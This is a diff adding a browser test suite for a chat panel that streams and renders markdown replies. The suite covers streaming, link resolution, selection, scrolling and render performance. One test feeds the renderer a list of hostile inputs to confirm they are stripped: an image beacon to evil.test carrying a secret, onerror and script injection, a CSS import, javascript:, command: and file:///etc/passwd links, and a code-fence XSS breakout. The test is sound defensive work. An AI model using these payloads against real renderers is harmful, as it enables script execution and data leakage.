@@ -1,0 +1,196 @@
+import assert from 'node:assert/strict';
+import { longReply, show, turn } from './scenes';
+import { useBrowser } from './useBrowser';
+
+describe('a reply in the panel', () => {
+  const open = useBrowser();
+
+  it('is an article that is busy while it streams, after a line that says so', async () => {
+    const panel = await open();
+    const { page, reply } = panel;
+    await panel.send(show([turn({ running: true })]));
+    const waiting = page.locator('.waiting-text');
+    assert.equal(await waiting.innerText(), 'Looking at the image…');
+    assert.equal(await reply.getAttribute('aria-busy'), 'true');
+
+    await panel.send({ type: 'text', turn: 0, text: 'Hello **wor' });
+    await waiting.waitFor({ state: 'hidden' });
+    assert.equal(await reply.innerHTML(), '<p>Hello <strong>wor</strong></p>');
+
+    await panel.send({ type: 'text', turn: 0, text: 'ld**\n\nEnd' });
+    await reply.getByText('End').waitFor();
+    await panel.send({ type: 'turn', turn: turn({ reply: 'Hello **world**\n\nEnd.' }) });
+    assert.equal(await reply.innerHTML(), '<p>Hello <strong>world</strong></p><p>End.</p>');
+    assert.equal(await reply.getAttribute('aria-busy'), 'false');
+    assert.equal(await page.locator('.waiting').isVisible(), false);
+  });
+
+  it('shows its first words in the same task in which they arrive', async () => {
+    const panel = await open();
+    await panel.send(show([turn({ running: true })]));
+    const shown = await panel.page.evaluate(() => {
+      window.dispatchEvent(
+        new MessageEvent('message', { data: { type: 'text', turn: 0, text: 'First' } }),
+      );
+      return document.querySelector('article')?.textContent;
+    });
+    assert.equal(shown, 'First');
+  });
+
+  it('loads nothing, runs nothing and links nowhere odd, whatever it says', async () => {
+    const panel = await open();
+    const hostile = [
+      '![beacon](https://evil.test/p.png?secret)',
+      '<img src="https://evil.test/q.png" onerror="document.title=\'hit\'">',
+      '<script>document.title="hit"</script>',
+      '<style>@import "https://evil.test/a.css";</style>',
+      '[a](command:workbench.action.quit) [b](JaVaScRiPt:document.title="hit") [c](file:///etc/passwd)',
+      '[d](vscode:extension/x.y) [e](data:text/html,x) [f](https://a.test/)',
+      '| a | b |\n| :-: | --: |\n| <b>1</b> | ![x](http://evil.test/) |',
+      '```"><img/src=x>\n<img src=x onerror=alert(1)>\n```',
+    ].join('\n\n');
+    await panel.send(show([turn({ running: true })]));
+    for (let at = 0; at < hostile.length; at += 7) {
+      await panel.send({ type: 'text', turn: 0, text: hostile.slice(at, at + 7) });
+    }
+    await panel.send({ type: 'turn', turn: turn({ reply: hostile }) });
+    await panel.reply.getByRole('link').waitFor();
+    assert.deepEqual(
+      await panel.reply
+        .locator('a')
+        .evaluateAll((links) =>
+          links.map((link) => [link.getAttribute('href'), link.getAttribute('title')]),
+        ),
+      [['https://a.test/', 'https://a.test/']],
+    );
+    assert.equal(await panel.reply.locator('img, script, style, iframe, [style]').count(), 0);
+    assert.equal(await panel.page.title(), 'Sightline');
+  });
+
+  it('resolves a link whose target is defined at the end', async () => {
+    const panel = await open();
+    const source = 'See [docs][1].\n\nMore.\n\n[1]: https://a.test/docs\n';
+    await panel.send(show([turn({ running: true })]), { type: 'text', turn: 0, text: source });
+    await panel.send({ type: 'turn', turn: turn({ reply: source }) });
+    assert.equal(
+      await panel.reply.getByRole('link', { name: 'docs' }).getAttribute('href'),
+      'https://a.test/docs',
+    );
+  });
+
+  it('is the same at its end as if it had come at once', async () => {
+    const streamed = await open();
+    await streamed.send(show([turn({ running: true })]));
+    for (let at = 0; at < longReply.length; at += 23) {
+      await streamed.send({ type: 'text', turn: 0, text: longReply.slice(at, at + 23) });
+    }
+    await streamed.send({ type: 'turn', turn: turn({ reply: longReply }) });
+    const whole = await open();
+    await whole.send(show([turn({ reply: longReply })]));
+    assert.equal(await streamed.reply.innerHTML(), await whole.reply.innerHTML());
+  });
+
+  it('goes on where it was cut', async () => {
+    const panel = await open();
+    await panel.send(show([turn({ reply: 'One\n\nTwo is' })]));
+    await panel.send({ type: 'turn', turn: turn({ reply: 'One\n\nTwo is', running: true }) });
+    await panel.send({ type: 'text', turn: 0, text: ' longer\n\nThree' });
+    await panel.reply.getByText('Three').waitFor();
+    assert.equal(await panel.reply.innerText(), 'One\n\nTwo is longer\n\nThree');
+  });
+
+  it('keeps a selection and leaves finished blocks alone while it grows', async () => {
+    const panel = await open();
+    await panel.send(show([turn({ running: true })]));
+    await panel.send({ type: 'text', turn: 0, text: '# Title\n\nFirst block.\n\nSecond block' });
+    await panel.reply.getByText('Second').waitFor();
+    await panel.page.evaluate(() => {
+      const [first, second] = [...document.querySelectorAll('article p')];
+      getSelection()?.setBaseAndExtent(
+        first?.firstChild ?? document,
+        2,
+        second?.firstChild ?? document,
+        6,
+      );
+      new MutationObserver(() => (document.title = 'touched')).observe(first ?? document, {
+        subtree: true,
+        childList: true,
+        characterData: true,
+        attributes: true,
+      });
+    });
+    await panel.send({ type: 'text', turn: 0, text: ' grows\n\nand a third' });
+    await panel.reply.getByText('third').waitFor();
+    assert.equal(
+      await panel.page.evaluate(() => getSelection()?.toString().replace(/\s+/g, ' ')),
+      'rst block. Second',
+    );
+    assert.equal(await panel.page.title(), 'Sightline');
+  });
+
+  it('follows its end only where the end was in view', async () => {
+    const panel = await open({ height: 400 });
+    const { page } = panel;
+    const fromEnd = () =>
+      page.evaluate(
+        () =>
+          document.documentElement.scrollHeight -
+          document.documentElement.clientHeight -
+          Math.round(scrollY),
+      );
+    await panel.send(show([turn({ running: true })]));
+    await panel.send({ type: 'text', turn: 0, text: 'Line\n\n'.repeat(40) });
+    assert.ok((await fromEnd()) < 2);
+    await panel.send({ type: 'text', turn: 0, text: `${'Line\n\n'.repeat(10)}Last` });
+    await panel.reply.getByText('Last').waitFor();
+    assert.ok((await fromEnd()) < 2);
+
+    const before = await page.evaluate(() => {
+      document.documentElement.scrollTop -= 300;
+      return scrollY;
+    });
+    await panel.send({ type: 'text', turn: 0, text: ' of all\n\nAnd more' });
+    await panel.reply.getByText('And more').waitFor();
+    assert.equal(await page.evaluate(() => scrollY), before);
+  });
+
+  it('renders each block of a long reply a few times only, and stays smooth over 20,000 words', async () => {
+    const panel = await open({ height: 600 });
+    const paragraph = 'Lorem ipsum **dolor** sit amet, `consectetur` elit. '.repeat(7) + '\n\n';
+    const rounds = 360;
+    await panel.send(show([turn({ running: true })]));
+    const { slowest, rendered, took } = await panel.page.evaluate(
+      async ([text, count]) => {
+        const original = Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML');
+        let rendered = 0;
+        Object.defineProperty(Element.prototype, 'innerHTML', {
+          ...original,
+          set(html: string) {
+            rendered += html.length;
+            original?.set?.call(this, html);
+          },
+        });
+        let slowest = 0;
+        const begin = performance.now();
+        for (let round = 0; round < count; round++) {
+          for (const piece of [text.slice(0, 150), text.slice(150)]) {
+            const data = { type: 'text', turn: 0, text: piece };
+            dispatchEvent(new MessageEvent('message', { data }));
+          }
+          const start = performance.now();
+          await new Promise((resolve) => requestAnimationFrame(resolve));
+          slowest = Math.max(slowest, performance.now() - start);
+        }
+        return { slowest, rendered, took: performance.now() - begin };
+      },
+      [paragraph, rounds] as const,
+    );
+    await panel.send({ type: 'turn', turn: turn({ reply: paragraph.repeat(rounds) }) });
+    assert.equal(await panel.reply.locator('p').count(), rounds);
+    const { length } = await panel.reply.innerHTML();
+    assert.ok(rendered < 4 * length, `${rendered} characters rendered for ${length}`);
+    console.log(
+      `      ${rounds} frames in ${Math.round(took)} ms, the slowest ${Math.round(slowest)} ms`,
+    );
+  });
+});
